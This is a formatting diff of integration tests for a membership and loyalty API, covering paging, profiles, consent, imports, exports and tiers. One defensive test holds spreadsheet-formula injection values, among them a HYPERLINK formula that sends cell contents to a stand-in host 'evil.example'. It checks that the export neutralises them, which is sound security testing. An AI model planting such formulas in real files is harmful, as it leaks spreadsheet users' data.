@@ -22,11 +22,11 @@ from lianka.tenants.services import member_imports
 from lianka.tenants.services.programme import set_programme
 
 pytestmark = pytest.mark.integration
-PROGRAMME = Programme(points=PointsConfig(),
-                      tiers=[Tier(code="regular", name="普通", rank=0),
-                             Tier(code="silver", name="银卡", rank=1, threshold=50_000)],
-                      stored_value=StoredValueConfig(plans=[StoredValuePlan(code="500", name="储值500", pay=50_000,
-                                                                            get=55_000)]))
+PROGRAMME = Programme(
+    points=PointsConfig(),
+    tiers=[Tier(code="regular", name="普通", rank=0), Tier(code="silver", name="银卡", rank=1, threshold=50_000)],
+    stored_value=StoredValueConfig(plans=[StoredValuePlan(code="500", name="储值500", pay=50_000, get=55_000)]),
+)
 
 
 @pytest.fixture
@@ -70,10 +70,17 @@ async def test_list_masks_phones_and_filters(client, shop, member_factory, tenan
     assert r.status_code == 400
 
 
-@pytest.mark.parametrize(("query", "field"), [
-    ("offset=10000000000000000000", "offset"), ("offset=1000000001", "offset"), ("offset=-1", "offset"),
-    ("limit=0", "limit"), ("limit=201", "limit"), ("limit=99999999999999999999999", "limit"),
-])
+@pytest.mark.parametrize(
+    ("query", "field"),
+    [
+        ("offset=10000000000000000000", "offset"),
+        ("offset=1000000001", "offset"),
+        ("offset=-1", "offset"),
+        ("limit=0", "limit"),
+        ("limit=201", "limit"),
+        ("limit=99999999999999999999999", "limit"),
+    ],
+)
 async def test_paging_out_of_range_is_a_400(client, shop, query: str, field: str) -> None:
     _, _, _, owner = shop
     r = await client.get(f"/api/v1/members?{query}", headers=owner)
@@ -85,23 +92,33 @@ async def test_paging_out_of_range_is_a_400(client, shop, query: str, field: str
 async def test_profile_and_consent_history(client, shop, member_factory, tenant_factory, staff_token) -> None:
     tenant, _, _, owner = shop
     m = await member_factory(tenant)
-    r = await client.patch(f"/api/v1/members/{m}/profile", headers=owner,
-                           json={"name": "王芳", "gender": "female", "birthday": "1990-05-01", "email": "w@example.com",
-                                 "preferences": {"milk": "oat"}})
+    r = await client.patch(
+        f"/api/v1/members/{m}/profile",
+        headers=owner,
+        json={
+            "name": "王芳",
+            "gender": "female",
+            "birthday": "1990-05-01",
+            "email": "w@example.com",
+            "preferences": {"milk": "oat"},
+        },
+    )
     assert r.status_code == 200, r.text
     assert r.json()["birthday"] == "1990-05-01" and r.json()["preferences"] == {"milk": "oat"}
     r = await client.patch(f"/api/v1/members/{m}/profile", json={"gender": "robot"}, headers=owner)
     assert r.status_code == 400
-    assert (await client.patch(f"/api/v1/members/{m}/profile", json={"birthday": "2999-01-01"},
-                               headers=owner)).status_code == 400
+    assert (
+        await client.patch(f"/api/v1/members/{m}/profile", json={"birthday": "2999-01-01"}, headers=owner)
+    ).status_code == 400
     for granted in (True, False):
         r = await client.put(f"/api/v1/members/{m}/consent/sms", json={"granted": granted}, headers=owner)
         assert r.status_code == 200
     sms = r.json()["sms"]
     assert sms["granted"] is False and [h["granted"] for h in sms["history"]] == [True, False]
     assert all(h["at"] for h in sms["history"])
-    assert (await client.put(f"/api/v1/members/{m}/consent/fax", json={"granted": True},
-                             headers=owner)).status_code == 400
+    assert (
+        await client.put(f"/api/v1/members/{m}/consent/fax", json={"granted": True}, headers=owner)
+    ).status_code == 400
     other = await staff_token(await tenant_factory("别家"), "owner")
     r = await client.patch(f"/api/v1/members/{m}/profile", json={"name": "x"}, headers=other.headers)
     assert r.status_code == 404
@@ -124,23 +141,29 @@ async def test_the_join_branch_is_set_at_enrolment_and_never_moves(client, shop,
         assert profile["join_branch_id"] == str(sh01)
         detail = (await client.get(f"/api/v1/members/{m}/detail", headers=owner)).json()
         assert detail["profile"]["join_branch_id"] == str(sh01)
-        listed = {b: [i["member_id"] for i in (await client.get(f"/api/v1/members?branch_id={b}",
-                                                                  headers=owner)).json()["items"]]
-                  for b in (sh01, sh02)}
+        listed = {
+            b: [
+                i["member_id"]
+                for i in (await client.get(f"/api/v1/members?branch_id={b}", headers=owner)).json()["items"]
+            ]
+            for b in (sh01, sh02)
+        }
         assert listed == {sh01: [m], sh02: []}
 
     await _sale(client, at_sh02, {"amount": 5_000, "member_id": m})  # the first purchase, at another branch
     await joined_at_sh01()
     # importing the person again with another branch does not move them either
-    r = await client.post("/api/v1/members/imports", json={"csv": "phone,name,branch\n13912345678,王五,SH02\n"},
-                          headers=owner)
+    r = await client.post(
+        "/api/v1/members/imports", json={"csv": "phone,name,branch\n13912345678,王五,SH02\n"}, headers=owner
+    )
     assert (await member_imports.run(db, tenant, uuid.UUID(r.json()["id"])))["processed"] == 1
     await joined_at_sh01()
     # staff cannot move it by hand; sending the value it has (a profile sent back whole) is harmless
     r = await client.patch(f"/api/v1/members/{m}/profile", json={"join_branch_id": str(sh02)}, headers=owner)
     assert (r.status_code, r.json()["field"]) == (400, "join_branch_id")
-    r = await client.patch(f"/api/v1/members/{m}/profile", json={"join_branch_id": str(sh01), "name": "王五"},
-                           headers=owner)
+    r = await client.patch(
+        f"/api/v1/members/{m}/profile", json={"join_branch_id": str(sh01), "name": "王五"}, headers=owner
+    )
     assert r.status_code == 200, r.text
     await joined_at_sh01()
     async with db.uow(tenant) as uow:  # the profile's own copy agrees
@@ -158,21 +181,27 @@ async def test_a_member_who_joined_online_has_no_join_branch_after_buying(client
 async def test_detail_after_sales_shows_balances_history_and_debt(client, shop, member_factory) -> None:
     tenant, _, pos, owner = shop
     m = str(await member_factory(tenant))
-    r = await client.post("/api/v1/pos/top-ups", json={"member_id": m, "plan": "500"},
-                          headers={**pos, "Idempotency-Key": uuid.uuid4().hex})
+    r = await client.post(
+        "/api/v1/pos/top-ups",
+        json={"member_id": m, "plan": "500"},
+        headers={**pos, "Idempotency-Key": uuid.uuid4().hex},
+    )
     assert r.status_code == 201
-    earn = await _sale(client, pos, {"amount": 60_000, "member_id": m,
-                                     "lines": [{"sku": "tea", "qty": 2, "unit_price": 30_000}]})
+    earn = await _sale(
+        client, pos, {"amount": 60_000, "member_id": m, "lines": [{"sku": "tea", "qty": 2, "unit_price": 30_000}]}
+    )
     await _sale(client, pos, {"amount": 1_200, "member_id": m, "points": 600})  # spend the points
-    r = await client.post(f"/api/v1/pos/sales/{earn['sale_id']}/refunds", json={},
-                          headers={**pos, "Idempotency-Key": uuid.uuid4().hex})
+    r = await client.post(
+        f"/api/v1/pos/sales/{earn['sale_id']}/refunds", json={}, headers={**pos, "Idempotency-Key": uuid.uuid4().hex}
+    )
     assert r.status_code == 201
     d = (await client.get(f"/api/v1/members/{m}/detail", headers=owner)).json()
     assert d["balances"]["sv_principal"] == 50_000 and d["balances"]["sv_bonus"] == 5_000
     assert d["balances"]["points"] < 0 and d["balances"]["points_debt"] == -d["balances"]["points"]
     assert d["tier"]["code"] in ("regular", "silver")
     assert [p["lines"] for p in d["purchases"] if p["id"] == earn["sale_id"]] == [
-        [{"sku": "tea", "qty": 2, "unit_price": 30_000}]]
+        [{"sku": "tea", "qty": 2, "unit_price": 30_000}]
+    ]
     assert {p["branch"] for p in d["purchases"]} == {"SH01"}
     kinds = [h["kind"] for h in d["points_history"]]
     assert "points_earned" in kinds and "points_redeemed" in kinds and "points_clawed_back" in kinds
@@ -182,8 +211,7 @@ async def test_detail_after_sales_shows_balances_history_and_debt(client, shop, 
     assert d["stage"] == "new" and d["phone"].count("*") == 4
 
 
-async def test_full_export_is_permissioned_and_logged(client, shop, member_factory, staff_token, auth_kit,
-                                                      db) -> None:
+async def test_full_export_is_permissioned_and_logged(client, shop, member_factory, staff_token, auth_kit, db) -> None:
     tenant, branch, _, owner = shop
     await member_factory(tenant, "+8613977778888")
     for role in ("cashier", "manager", "analyst"):
@@ -205,8 +233,12 @@ async def test_full_export_is_permissioned_and_logged(client, shop, member_facto
 async def test_the_export_neutralises_spreadsheet_formulas(client, shop, member_factory) -> None:
     tenant, _, _, owner = shop
     m = await member_factory(tenant, "+8613966667777")
-    hostile: dict[str, Any] = {"name": '=HYPERLINK("http://evil.example/?"&A1,"点我")', "tags": ["@SUM(A1:A9)", "vip"],
-               "email": "-2+3@example.com", "address": "+1 dial"}
+    hostile: dict[str, Any] = {
+        "name": '=HYPERLINK("http://evil.example/?"&A1,"点我")',
+        "tags": ["@SUM(A1:A9)", "vip"],
+        "email": "-2+3@example.com",
+        "address": "+1 dial",
+    }
     r = await client.patch(f"/api/v1/members/{m}/profile", json=hostile, headers=owner)
     assert r.status_code == 200, r.text
     r = await client.get("/api/v1/members/export.csv", headers=owner)
@@ -245,8 +277,9 @@ async def test_import_all_or_nothing_and_skip_invalid(client, shop, db: Database
     status = (await client.get(f"/api/v1/members/imports/{job['id']}", headers=owner)).json()
     assert status["status"] == "done" and len(status["errors"]) == 2
     # the same file again: nobody twice, no points twice
-    again = (await client.post("/api/v1/members/imports", json={"csv": CSV, "mode": "skip_invalid"},
-                               headers=owner)).json()
+    again = (
+        await client.post("/api/v1/members/imports", json={"csv": CSV, "mode": "skip_invalid"}, headers=owner)
+    ).json()
     second = await member_imports.run(db, tenant, uuid.UUID(again["id"]))
     assert second["created_members"] == 0
     page = (await client.get("/api/v1/members?q=李娜", headers=owner)).json()
@@ -290,12 +323,21 @@ async def test_the_import_command_reports_a_refused_file_and_writes_nothing(shop
     async with db.uow(system=True) as uow:
         slug = await uow.session.scalar(text("SELECT slug FROM merchants WHERE id = :t"), {"t": tenant})
     lianka = Path(sys.executable).with_name("lianka")
-    for name, content in (("nul.csv", b"phone,name\n13800001111,a\x00b\n"),
-                          ("cr.csv", "phone,name\r13800001111,王\r13800002222,\"x\ry\"\r[/red],z\r".encode())):
+    for name, content in (
+        ("nul.csv", b"phone,name\n13800001111,a\x00b\n"),
+        ("cr.csv", 'phone,name\r13800001111,王\r13800002222,"x\ry"\r[/red],z\r'.encode()),
+    ):
         (tmp_path / name).write_bytes(content)
         proc = await asyncio.create_subprocess_exec(
-            str(lianka), "members", "import", str(tmp_path / name), "--merchant", str(slug),
-            stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.STDOUT)
+            str(lianka),
+            "members",
+            "import",
+            str(tmp_path / name),
+            "--merchant",
+            str(slug),
+            stdout=asyncio.subprocess.PIPE,
+            stderr=asyncio.subprocess.STDOUT,
+        )
         out = (await proc.communicate())[0].decode()
         assert "Traceback" not in out, out
         if name == "cr.csv":  # imported, with the second row reported (its text shown as is)
@@ -333,8 +375,9 @@ async def test_import_resumes_after_a_crash(shop, db: Database) -> None:
 async def test_manual_tier_is_a_floor_with_its_reason(client, shop, member_factory, staff_token, db) -> None:
     tenant, _, _, owner = shop
     m = await member_factory(tenant)
-    r = await client.put(f"/api/v1/members/{m}/tier", json={"tier": "silver", "reason": "门店邀请",
-                                                            "until": "2099-12-31"}, headers=owner)
+    r = await client.put(
+        f"/api/v1/members/{m}/tier", json={"tier": "silver", "reason": "门店邀请", "until": "2099-12-31"}, headers=owner
+    )
     assert r.status_code == 200, r.text
     assert r.json() == {"tier": "silver", "floor": "silver", "floor_until": "2099-12-31"}
     history = (await client.get(f"/api/v1/members/{m}/tier-changes", headers=owner)).json()
@@ -347,10 +390,12 @@ async def test_manual_tier_is_a_floor_with_its_reason(client, shop, member_facto
     d = (await client.get(f"/api/v1/members/{m}/detail", headers=owner)).json()
     assert d["tier"]["code"] == "silver"
     cashier = await staff_token(tenant, "cashier")
-    r = await client.put(f"/api/v1/members/{m}/tier", json={"tier": "silver", "reason": "x"},
-                         headers=cashier.headers)
+    r = await client.put(f"/api/v1/members/{m}/tier", json={"tier": "silver", "reason": "x"}, headers=cashier.headers)
     assert r.status_code == 403
-    for bad in ({"tier": "diamond", "reason": "x"}, {"tier": "silver", "reason": " "},
-                {"tier": "silver", "reason": "x", "until": "2001-01-01"}):
+    for bad in (
+        {"tier": "diamond", "reason": "x"},
+        {"tier": "silver", "reason": " "},
+        {"tier": "silver", "reason": "x", "until": "2001-01-01"},
+    ):
         r = await client.put(f"/api/v1/members/{m}/tier", json=bad, headers=owner)
         assert r.status_code == 400, bad
